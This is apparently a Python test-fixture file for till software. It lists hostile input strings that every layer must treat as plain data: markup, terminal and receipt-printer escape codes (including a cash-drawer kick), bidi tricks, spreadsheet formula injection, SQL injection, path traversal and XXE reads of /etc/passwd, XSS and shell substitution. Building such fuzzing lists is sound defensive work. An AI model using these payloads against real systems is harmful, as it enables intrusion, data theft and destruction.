"""Outside text that has hurt tills: one list, used by the tests of every layer.

Each row is an id for the test's name and the text. Whatever takes text from outside (a scan, a product's
name, a lot code, a reason, a CSV cell, an error of a device) must take every one of them as data: nothing
vanishes into markup, reaches a terminal or printer as a command, a database as SQL, a sheet as a formula, or
ends the program.
"""

from __future__ import annotations

MARKUP: tuple[tuple[str, str], ...] = (
    ("markup-close-any", "[/]"),
    ("markup-open", "[bold]x"),
    ("markup-close", "[/x]"),
    ("markup-close-inside", "a[/b]c"),
    ("markup-balanced", "[red]not red[/red]"),
    ("markup-lot-in-brackets", "Lot [A12]"),
    ("markup-lower-case-brackets", "Lot [a12]"),
    ("markup-nested", "[[bold]]x[[/bold]]"),
    ("markup-escaped", r"\[bold]x"),
    ("markup-click-quits", "[@click=app.quit]x[/]"),
    ("markup-link", "[link=https://example.com]x[/link]"),
    ("markup-variable", "$name [$accent]x"),
    ("markup-emoji-code", ":bell: :warning:"),
    ("markup-open-bracket-last", "Milk 1 l ["),
    ("trailing-backslash", "Milk 1 l\\"),
    ("trailing-backslash-in-tag", "[bold]x\\[/bold]\\"),
)
"""Rich and Textual markup."""

TERMINAL: tuple[tuple[str, str], ...] = (
    ("esc-colour", "\x1b[31mred\x1b[0m"),
    ("esc-clear-screen", "\x1b[2J\x1b[H"),
    ("esc-leave-alternate-screen", "\x1b[?1049l"),
    ("esc-full-reset", "\x1bc"),
    ("esc-asks-for-cursor", "\x1b[6n"),
    ("esc-alone-last", "Milk\x1b"),
    ("osc-title", "\x1b]0;owned\x07"),
    ("osc52-clipboard", "\x1b]52;c;b3duZWQ=\x07"),
    ("osc8-link", "\x1b]8;;https://example.com\x1b\\x\x1b]8;;\x1b\\"),
    ("dcs-string", "\x1bP+q544e\x1b\\"),
    ("c1-csi", "\x9b31mred"),
    ("c1-osc52", "\x9d52;c;b3duZWQ=\x9c"),
    ("c1-next-line", "Milk\x85Bread"),
    ("nul", "Milk\x00Bread"),
    ("bell", "Milk\x07"),
    ("backspace", "Milk 9.99\x08\x08\x08\x081.99"),
    ("delete", "Milk\x7fBread"),
    ("xon-quits", "Milk\x11Bread"),
    ("ctrl-c", "Milk\x03Bread"),
    ("all-controls", "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0))))),
)
"""What a terminal obeys."""

PRINTER: tuple[tuple[str, str], ...] = (
    ("escpos-drawer-kick", "Milk\x1bp\x00\x19\x19"),
    ("escpos-cut", "Milk\x1dV\x00"),
    ("escpos-real-time-kick", "Milk\x10\x14\x01\x00\x05"),
    ("escpos-reset", "Milk\x1b@"),
    ("escpos-upside-down", "Milk\x1b{\x01"),
    ("escpos-chinese-mode", "Milk\x1c&"),
    ("escpos-raster-swallows", "Milk\x1dv0\x00\xff\xff\xff\xff"),
    ("star-drawer-bell", "Milk\x1b\x07\x0b\x37\x07"),
    ("form-feed", "Milk\x0cBread"),
)
"""What a receipt printer obeys."""

SCRIPTS: tuple[tuple[str, str], ...] = (
    ("rtl-override", "Milk \u202e99.1\u202c 1 l"),
    ("rtl-isolate-left-open", "Milk \u2067 1 l"),
    ("bidi-marks", "\u200eMilk\u200f\u061c"),
    ("zero-width", "Mi\u200blk\u200c\u200d\u2060"),
    ("byte-order-mark", "\ufeffMilk"),
    ("soft-hyphen", "Mi\u00adlk"),
    ("line-separators", "Milk\u2028Bread\u2029Eggs"),
    ("no-break-spaces", "\u00a0Milk\u202f1\u2009l\u3000"),
    ("combining", "Cre\u0300me frai\u0302che"),
    ("combining-stack", "Z" + "\u0335\u0322\u0301" * 20 + "!"),
    ("combining-first", "\u0301Milk"),
    ("latin", "Käse, crème fraîche, jalapeño, Ærø, 5 €"),
    ("cjk-wide", "牛乳 1 リットル"),
    ("hangul", "우유 1리터"),
    ("hebrew", "חלב 3% 1 ליטר"),
    ("arabic", "حليب كامل الدسم ١ لتر"),
    ("thai", "นมสด ๑ ลิตร"),
    ("devanagari", "दूध १ लीटर"),
    ("arabic-digits", "١٢٣٤٥"),
    ("fullwidth-digits", "１２３４５"),
    ("dotless-i", "ısı İSTANBUL ß ẞ"),
    ("emoji", "Milk 🥛 1 l"),
    ("emoji-family", "👨\u200d👩\u200d👧\u200d👦 🇳🇱 👍🏽"),
    ("private-use", "Milk\ue000\U000f0000"),
    ("unassigned", "Milk\u0378\U000e0fff"),
    ("noncharacter", "Milk\ufffe\U0010ffff"),
    ("tag-characters", "Milk\U000e0041\U000e0042"),
    ("lone-surrogate", "Milk\ud83e"),
    ("lone-low-surrogate", "\udc1bMilk"),
)
"""Scripts, directions and characters that fool width, order or encoders."""

SHEETS: tuple[tuple[str, str], ...] = (
    ("formula-equals", "=1+1"),
    ("formula-command", "=cmd|' /C calc'!A0"),
    ("formula-link", '=HYPERLINK("https://example.com?"&A1,"Milk")'),
    ("formula-plus", "+1+1"),
    ("formula-minus", "-1+1"),
    ("formula-at", "@SUM(A1:A9)"),
    ("formula-tab", "\t=1+1"),
    ("formula-cr", "\r=1+1"),
    ("formula-newline", "\n=1+1"),
    ("formula-after-blank", " =1+1"),
    ("formula-fullwidth", "＝1+1"),
    ("csv-quotes", 'Tablet 10", "new"'),
    ("csv-separators", "a,b;c\td|e"),
    ("csv-row-break", 'a"\r\n"b'),
)
"""What a spreadsheet takes for a formula, a cell or a row."""

PROGRAMS: tuple[tuple[str, str], ...] = (
    ("sql-quote", "O'Brien's"),
    ("sql-drop", "'; DROP TABLE product; --"),
    ("sql-union", "x' UNION SELECT pin FROM person --"),
    ("sql-like", "100%_\\"),
    ("sql-parameter", ":sku ? $1 %(sku)s"),
    ("fts-operators", 'milk" OR NEAR(* NOT'),
    ("format-percent", "%s %d %(x)s %n"),
    ("format-braces", "{} {0} {0.__class__} {x!r:>{y}}"),
    ("format-unbalanced", "{ } }{"),
    ("template", "${HOME} $(id) `id` {{7*7}}"),
    ("python-escapes", r"\x1b[31m \u202e \N{BELL} \0 \n"),
    ("python-repr", "Lot(code='A12')"),
    ("path-up", "../../../../etc/passwd"),
    ("path-windows", r"..\..\CON"),
    ("path-absolute", "/dev/null"),
    ("url", "javascript:alert(1)"),
    ("json", '{"lot": "A12", "quantity": 1e999}'),
    ("json-breakout", '", "recalled": false, "x": "'),
    ("xml", "<lot>&amp;<![CDATA[x]]></lot>"),
    ("xml-entity", '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;'),
    ("html", "<img src=x onerror=alert(1)>"),
    ("toml", 'name = "x"\n[[restricted]]'),
    ("regex", "(a+)+$ [a-z]* ^.*?"),
    ("option", "--store=/dev/null"),
)
"""What databases, formatters, parsers and shells take for their own."""

SHAPES: tuple[tuple[str, str], ...] = (
    ("empty", ""),
    ("blank", " "),
    ("blanks-around", "  Milk  1 l  "),
    ("newline", "Milk\nBread"),
    ("crlf", "Milk\r\nBread"),
    ("tab", "Milk\tBread"),
    ("vertical-tab", "Milk\x0bBread"),
    ("gs1-separators", "10A12\x1d21S1\x1e\x1c\x1f\x04"),
    ("unfinished-aim", "]"),
    ("digits-only", "10156"),
    ("leading-zeros", "0042"),
    ("not-a-number", "NaN"),
    ("infinity", "-Infinity"),
    ("exponent", "1e5"),
    ("quantity-prefix", "999999999999*"),
    ("long", "x" * 10_000),
    ("long-words", "Milk " * 2_000),
    ("long-wide", "牛" * 10_000),
    ("long-brackets", "[" * 10_000),
)
"""Lengths, blanks and look-alikes."""

HOSTILE: tuple[tuple[str, str], ...] = (
    *MARKUP,
    *TERMINAL,
    *PRINTER,
    *SCRIPTS,
    *SHEETS,
    *PROGRAMS,
    *SHAPES,
)
"""Every row: `@pytest.mark.parametrize("text", [t for _, t in HOSTILE], ids=[i for i, _ in HOSTILE])`."""
